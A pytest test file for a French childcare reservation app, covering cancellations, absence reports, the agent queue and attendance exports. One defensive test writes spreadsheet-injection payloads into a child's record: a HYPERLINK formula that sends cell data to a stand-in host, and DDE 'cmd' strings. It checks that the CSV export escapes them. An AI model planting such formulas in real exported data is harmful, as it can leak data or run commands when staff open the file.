"""Cancellation screens (guide section 9), absences, the agents' queue and the attendance lists."""
import csv
import io
import re
from datetime import timedelta

import pytest
from pypdf import PdfReader
from sqlmodel import select

from models import Attendance, Booking, Reservation, ReservationLine, Unit, utcnow
from services import planning
from tests.conftest import csrf_from, page_text
from tests.factories import HX, centre, child, reservation_with_a_request

CANCEL = "/reservations/annulation"


@pytest.fixture
def booked(db):
    """Zoé's reservation in the centre: two mornings accepted, a request, a day on the waiting list."""
    return reservation_with_a_request(db)


def accepted_booking(db, name="Zoé"):
    """The child's first upcoming accepted booking (10 days ahead or more)."""
    holder = child(db, name)
    return db.exec(select(Booking).where(Booking.child_id == holder.id, Booking.status == "accepted",
                                         Booking.day >= utcnow().date()).order_by(Booking.day)).first()


def test_cancellation_window_lists_periods_with_bookings(client, auth, db, booked):
    auth.login()
    zoe = child(db, "Zoé")
    est, period, _ = centre(db)
    page = page_text(client.get(f"{CANCEL}/nouvelle?enfant={zoe.id}&etablissement={est.id}"))
    assert "Demande d'annulation" in page and period.name in page
    response = client.get(f"{CANCEL}/nouvelle?enfant={zoe.id}&etablissement={est.id}&periode={period.id}&continuer=1")
    assert response.headers["Location"] == f"{CANCEL}/planning/{zoe.id}/{period.id}"
    # Noé has no booking: no period to cancel in
    noe = page_text(client.get(f"{CANCEL}/nouvelle?enfant={child(db, 'Noé').id}&etablissement={est.id}"))
    assert "Aucune période" in noe


def test_click_on_a_booked_day_selects_its_cancellation(client, auth, db, booked):
    auth.login()
    zoe = child(db, "Zoé")
    _, period, units = centre(db)
    booking = accepted_booking(db)
    unit = db.get(Unit, booking.unit_id)
    page = page_text(client.get(f"{CANCEL}/planning/{zoe.id}/{period.id}?mois={booking.day:%Y-%m}"))
    assert "Demande d'annulation — planning de Zoé Durand" in page
    assert "Désélectionner tous les jours de la période" in page and "Sélection automatique" not in page
    token = csrf_from(page)
    html = page_text(client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/cellule", headers=HX,
                                 data={"csrf_token": token, "cellule": f"{booking.day}.{unit.id}", "mois": f"{booking.day:%Y-%m}"}))
    assert "cell--cancel_selected" in html and "annulation acceptée (à confirmer)" in html
    assert "<strong>1</strong> case à annuler" in html
    # the booking itself is untouched until confirmed
    assert db.get(Booking, booking.id) is not None
    # a free day cannot be "cancelled"
    other = period.start_date + timedelta(days=40)
    html = page_text(client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/cellule", headers=HX,
                                 data={"csrf_token": token, "cellule": f"{other}.{units['repas'].id}"}))
    assert "planning-message--error" in html


def test_whole_cancellation_without_javascript(client, auth, db, booked):
    auth.login()
    zoe = child(db, "Zoé")
    _, period, units = centre(db)
    booking = accepted_booking(db)
    booking_id = booking.id
    unit = db.get(Unit, booking.unit_id)
    token = csrf_from(client.get(f"{CANCEL}/planning/{zoe.id}/{period.id}").get_data(as_text=True))
    response = client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/lot",
                           data={"csrf_token": token, "unite": unit.id, "action": "deselection-periode"})
    assert response.status_code == 302
    recap = page_text(client.get(f"{CANCEL}/planning/{zoe.id}/{period.id}/recapitulatif"))
    assert "Vérifiez les jours d'annulation" in recap and "Confirmer la demande d'annulation" in recap
    assert "Annulation acceptée" in recap
    revision = re.search(r'name="revision" value="(\d+)"', recap).group(1)
    done = client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/confirmer", data={"csrf_token": token, "revision": revision})
    summary = page_text(client.get(done.headers["Location"]))
    assert "Votre demande d'annulation est enregistrée" in summary and "Terminer" in summary
    assert "Demande d'annulation" in summary and re.search(r"R-\d{4}-\d{6}", summary)
    db.expire_all()
    assert db.get(Booking, booking_id) is None
    again = client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/confirmer", data={"csrf_token": token, "revision": revision})
    assert again.headers["Location"] == done.headers["Location"]
    assert len(db.exec(select(Reservation).where(Reservation.kind == "cancellation")).all()) == 1
    home = page_text(client.get("/compte/"))
    assert "Demande d'annulation" in home


def test_cancellation_routes_check_the_family(client, auth, db):
    auth.login("rayan.parent@tilleuls.test")
    zoe = child(db, "Zoé")
    _, period, _ = centre(db)
    assert client.get(f"{CANCEL}/planning/{zoe.id}/{period.id}").status_code == 404
    token = csrf_from(client.get("/compte/").get_data(as_text=True))
    assert client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/confirmer", data={"csrf_token": token, "revision": 1}).status_code == 404


def test_absence_in_two_taps(client, auth, db, smtp, booked):
    zoe = child(db, "Zoé")
    _, period, units = centre(db)
    today = planning.paris_now(utcnow()).date()
    # Zoé is booked today (made directly: its reservation's days are further ahead)
    line = db.exec(select(ReservationLine)).first()
    db.add(Booking(child_id=zoe.id, unit_id=units["repas"].id, day=today, status="accepted", line_id=line.id,
                   family_id=zoe.family_id))
    db.commit()
    auth.login()
    page = page_text(client.get("/compte/"))
    assert "Signaler une absence (enfant malade)" in page
    choose = page_text(client.get("/reservations/absence"))
    assert "Zoé absente aujourd'hui" in choose and "Repas" in choose
    response = client.submit("/reservations/absence", {"enfant": zoe.id, "jour": today.isoformat()})
    assert response.status_code == 302
    assert "L'absence de Zoé" in page_text(client.get("/compte/"))
    record = db.exec(select(Reservation).where(Reservation.absence.is_(True))).one()
    assert record.kind == "cancellation" and record.status == "pending"
    # agents see it first
    auth.logout()
    auth.login("agent@tilleuls.test")
    queue = page_text(client.get("/agent/reservations"))
    assert queue.index("Absence signalée") < queue.index("Demande de réservation")
    # another family cannot declare an absence for Zoé
    auth.logout()
    auth.login("rayan.parent@tilleuls.test")
    token = csrf_from(client.get("/reservations/absence").get_data(as_text=True))
    assert client.post("/reservations/absence", data={"csrf_token": token, "enfant": zoe.id, "jour": today.isoformat()}).status_code == 404


def test_agent_accepts_a_late_cancellation_as_justified(client, auth, db, smtp, booked):
    zoe = child(db, "Zoé")
    _, period, units = centre(db)
    today = planning.paris_now(utcnow()).date()
    line = db.exec(select(ReservationLine)).first()
    db.add(Booking(child_id=zoe.id, unit_id=units["repas"].id, day=today + timedelta(days=1), status="accepted", line_id=line.id,
                   family_id=zoe.family_id))
    db.commit()
    auth.login()
    client.submit("/reservations/absence", {"enfant": zoe.id, "jour": (today + timedelta(days=1)).isoformat()})
    auth.logout()
    auth.login("agent@tilleuls.test")
    cancel_line = db.exec(select(ReservationLine).where(ReservationLine.action == "cancel")).one()
    page = client.get("/agent/reservations").get_data(as_text=True)
    token = csrf_from(page)
    incomplete = client.post(f"/agent/reservations/lignes/{cancel_line.id}", follow_redirects=True,
                             data={"csrf_token": token, "action": "accept", "justifiee": "1", "motif": ""})
    assert "Indiquez le motif" in page_text(incomplete)
    client.post(f"/agent/reservations/lignes/{cancel_line.id}",
                data={"csrf_token": token, "action": "accept", "justifiee": "1", "motif": "Certificat médical"})
    db.expire_all()
    decided = db.get(ReservationLine, cancel_line.id)
    assert decided.state == "accepted" and decided.justified and not decided.billable
    mail = smtp.wait_for("zoe.parent@tilleuls.test")[0]
    assert "absence justifiée : non facturée" in smtp.text(mail)
    assert re.search(r"Où en est la réservation R-\d{4}-\d{6} : 1 annulation acceptée", smtp.text(mail))
    assert re.search(r"\n- .+ \(absence justifiée : non facturée\)\r?\n\r?\nOù en est", smtp.text(mail))  # one line each


def test_attendance_list_page_pdf_csv_and_ticks(client, auth, db, booked):
    est, period, units = centre(db)
    booking = accepted_booking(db)
    day = booking.day
    auth.login("agent@tilleuls.test")
    url = f"/agent/presences?etablissement={est.id}&jour={day.isoformat()}"
    page = page_text(client.get(url))
    assert "DURAND" in page.upper() and "Zoé" in page
    assert "allergies : Arachide" in page and "PAI" in page and "Marie Durand" in page
    assert 'type="radio"' in page and "Présent" in page

    pdf = client.get(f"/agent/presences.pdf?etablissement={est.id}&jour={day.isoformat()}")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages)
    assert "Durand Zoé" in text and "Arachide" in text and "Liste de présence" in text

    csv_response = client.get(f"/agent/presences.csv?etablissement={est.id}&jour={day.isoformat()}")
    rows = list(csv.reader(io.StringIO(csv_response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["Date", "Unité", "Nom"]
    assert any(r[3] == "Zoé" and r[8] == "Arachide" for r in rows[1:])

    token = csrf_from(page)
    zoe = child(db, "Zoé")
    client.post(url, data={"csrf_token": token, f"presence-{zoe.id}-{booking.unit_id}": "absent"})
    mark = db.exec(select(Attendance).where(Attendance.child_id == zoe.id, Attendance.day == day)).one()
    assert mark.present is False and mark.booked
    assert "présence enregistrée" in page_text(client.get(url))
    # a child not on the list cannot be ticked through a forged field
    rayan = child(db, "Rayan")
    assert client.post(url, data={"csrf_token": token, f"presence-{rayan.id}-{booking.unit_id}": "present"}).status_code == 404
    # but can be added as a walk-in
    client.post(f"/agent/presences/ajout?etablissement={est.id}&jour={day.isoformat()}",
                data={"csrf_token": token, "enfant": rayan.id, "unite": units["repas"].id})
    walk_in = db.exec(select(Attendance).where(Attendance.child_id == rayan.id)).one()
    assert walk_in.present and not walk_in.booked
    assert "Venu sans réservation" in page_text(client.get(url))


def test_attendance_is_for_staff_only(client, auth):
    auth.login()
    for path in ("/agent/presences", "/agent/presences.pdf", "/agent/presences.csv"):
        assert client.get(path).status_code == 403


def test_attendance_csv_never_hands_a_formula_to_the_spreadsheet(client, auth, db, booked):
    """Names, allergies and notes a parent typed are written as text: =, +, - and @ get an apostrophe."""
    est, period, units = centre(db)
    booking = accepted_booking(db)
    zoe = child(db, "Zoé")
    zoe.last_name = '=HYPERLINK("http://evil.test/?"&A1;"Voir")'
    zoe.allergies = "+cmd|' /C calc'!A0"
    zoe.medical_notes = "@SUM(1+1)*cmd|' /C calc'!A0"
    zoe.pickup_persons = "  -2+3"
    db.add(zoe)
    db.commit()
    auth.login("agent@tilleuls.test")
    response = client.get(f"/agent/presences.csv?etablissement={est.id}&jour={booking.day.isoformat()}")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    row = next(r for r in rows[1:] if r[3] == "Zoé")
    assert row[2] == "'" + zoe.last_name
    assert row[8] == "'" + zoe.allergies
    assert row[10] == "'" + zoe.medical_notes
    assert row[11] == "'  -2+3"
    assert all(not value.lstrip().startswith(("=", "+", "-", "@")) for r in rows for value in r)


def test_the_check_screen_warns_that_a_late_cancellation_is_billed(client, auth, db, booked):
    """Before confirming, the parent reads which days are late (billed if accepted, unless justified)."""
    zoe = child(db, "Zoé")
    _, period, units = centre(db)
    now = utcnow()
    today = planning.paris_now(now).date()
    days = [today + timedelta(days=n) for n in range(1, 40)]
    plan = planning.load_planning(db, zoe, period, days, now)
    late = next(d for d in days if period.start_date <= d <= period.end_date and plan.closed_reason(units["repas"], d) is None
                and (units["repas"].id, d) not in plan.bookings
                and planning.cancel_rule(period, "accepted", d, now)[0] == "request")
    line = db.exec(select(ReservationLine)).first()
    db.add(Booking(child_id=zoe.id, unit_id=units["repas"].id, day=late, status="accepted", line_id=line.id,
                   family_id=zoe.family_id))
    db.commit()
    auth.login()
    token = csrf_from(client.get(f"{CANCEL}/planning/{zoe.id}/{period.id}?mois={late:%Y-%m}").get_data(as_text=True))
    client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/cellule", headers=HX,
                data={"csrf_token": token, "cellule": f"{late}.{units['repas'].id}", "mois": f"{late:%Y-%m}"})
    booking = next(b for b in db.exec(select(Booking).where(Booking.child_id == zoe.id, Booking.status == "accepted"))
                   if planning.cancel_rule(period, "accepted", b.day, now)[0] == "accepted")
    unit = db.get(Unit, booking.unit_id)
    client.post(f"{CANCEL}/planning/{zoe.id}/{period.id}/cellule", headers=HX,
                data={"csrf_token": token, "cellule": f"{booking.day}.{unit.id}", "mois": f"{booking.day:%Y-%m}"})
    recap = page_text(client.get(f"{CANCEL}/planning/{zoe.id}/{period.id}/recapitulatif"))
    assert "Hors délai : demande d'annulation, facturée si la structure l'accepte, sauf absence justifiée." in recap
    assert "Dans les délais : annulation acceptée, non facturée." in recap
